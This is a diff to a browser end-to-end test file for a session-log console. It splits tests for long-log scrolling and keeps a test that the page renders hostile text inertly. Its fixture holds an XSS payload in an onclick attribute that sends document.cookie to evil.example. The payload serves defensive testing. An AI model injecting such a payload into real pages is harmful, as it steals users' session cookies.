@@ -11,8 +11,10 @@ import { openDesk, type Desk } from "../support/browser/desk.ts";
 
 /** Logs that mean harm, and logs that are long: nothing in them runs, and the page stays quick. */
 
-const [HOSTILE, LONG, DEEP] = [id(1), id(2), id(3)];
+const [HOSTILE, LONG, DEEP, READ] = [id(1), id(2), id(3), id(4)];
 const EVENTS = 10_000;
+/** Twelve pages, four times of what the page keeps. */
+const READ_EVENTS = 2_400;
 
 /** Sets a mark, or asks for something, wherever it is run. */
 const RUN = "window.harmed=true;fetch('https://evil.example/?'+document.cookie)";
@@ -59,6 +61,11 @@ const agentsWithin = (steps: number): SessionEvent[] => {
   return [sends("outer"), ...says("Outer", "outer"), sends("inner", "outer"), ...says("Inner", "inner")];
 };
 
+const manySteps = (events: number): SessionEvent[] => {
+  const words = (at: number) => said(`Step ${String(at)}: **all** is well in \`file-${String(at)}.ts\`.`);
+  return [prompt("Take many steps."), ...Array.from({ length: events - 1 }, (_, at) => words(at + 2))];
+};
+
 let desk: Desk;
 beforeAll(async () => {
   desk = await openDesk({
@@ -72,9 +79,8 @@ beforeAll(async () => {
       ];
       const events = [prompt(ALL), ...bad, ...tools];
       await addSession(node, HOSTILE, { cwd: `/repo/<b onclick="${RUN}">`, events });
-      const words = (at: number) => said(`Step ${String(at)}: **all** is well in \`file-${String(at)}.ts\`.`);
-      const steps = Array.from({ length: EVENTS - 1 }, (_, at) => words(at + 2));
-      await addSession(node, LONG, { events: [prompt("Take many steps."), ...steps] });
+      await addSession(node, LONG, { events: manySteps(EVENTS) });
+      await addSession(node, READ, { events: manySteps(READ_EVENTS) });
       await addSession(node, DEEP, { events: [prompt("Send agents."), ...agentsWithin(60), said("All are back.")] });
     },
   });
@@ -129,7 +135,7 @@ describe("hostile text", () => {
         return show.count();
       })
       .toBe(0);
-    await window.shot("hostile", false);
+    await window.picture("hostile", false);
     expect(await harm(page)).toEqual([]);
     // It stands in for all links: none is one that could do harm.
     await page.getByText("click me").first().click();
@@ -182,7 +188,7 @@ describe("hostile text", () => {
   });
 });
 
-describe("a log of 10,000 events", () => {
+describe("a long log", () => {
   /** More is not drawn, however long one reads. */
   const MOST_NODES = 8_000;
   const nodes = async (page: Page) => page.evaluate<number>('document.querySelectorAll("*").length');
@@ -191,7 +197,7 @@ describe("a log of 10,000 events", () => {
   const where = async (page: Page, eventId: number) =>
     page.evaluate<number>(`document.querySelector('[data-event="${String(eventId)}"]').getBoundingClientRect().top`);
 
-  it("opens at its end, is read to its start and back, and the page does not grow with it", async () => {
+  it("of 10,000 events opens at its end, and is left for its start", async () => {
     const { page } = await desk.open();
     const began = Date.now();
     await page.goto(`${desk.http.origin}/console/#/sessions/${LONG}`);
@@ -199,6 +205,14 @@ describe("a log of 10,000 events", () => {
     // Far more than it takes: a slow machine is no failure.
     expect(Date.now() - began).toBeLessThan(20_000);
     expect(await where(page, EVENTS)).toBeLessThan(900);
+    await page.getByRole("button", { name: "Go to the start" }).click();
+    await expect.poll(async () => first(page)).toBe(1);
+    expect(await nodes(page)).toBeLessThan(MOST_NODES);
+  });
+
+  it("is read from its end to its start and back, and the page does not grow with it", async () => {
+    const { page } = await desk.open({ hash: `#/sessions/${READ}` });
+    await entry(page, `Step ${String(READ_EVENTS)}:`).waitFor();
     let most = 0;
     for (let at = await first(page); at > 1; at = await first(page)) {
       const ids = await shownEvents(page);
@@ -220,11 +234,9 @@ describe("a log of 10,000 events", () => {
       expect(ids).toEqual(Array.from({ length: ids.length }, (_, place) => ids[0]! + place));
     }
     await page.getByRole("button", { name: /^(To the end|New activity)/ }).click();
-    await entry(page, `Step ${String(EVENTS)}:`).waitFor();
+    await entry(page, `Step ${String(READ_EVENTS)}:`).waitFor();
     most = Math.max(most, await nodes(page));
     expect(most).toBeLessThan(MOST_NODES);
-    await page.getByRole("button", { name: "Go to the start" }).click();
-    await expect.poll(async () => first(page)).toBe(1);
   });
 
   it("is opened at an event that the address names", async () => {
